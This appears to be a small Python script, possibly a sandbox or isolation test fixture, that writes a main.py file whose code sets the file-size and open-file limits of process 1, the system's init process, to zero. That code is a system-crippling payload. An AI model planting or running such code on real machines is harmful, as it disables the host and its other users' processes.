from pathlib import Path

Path("main.py").write_text("""
import resource
resource.prlimit(1, resource.RLIMIT_FSIZE, (0, 0))
resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
""")
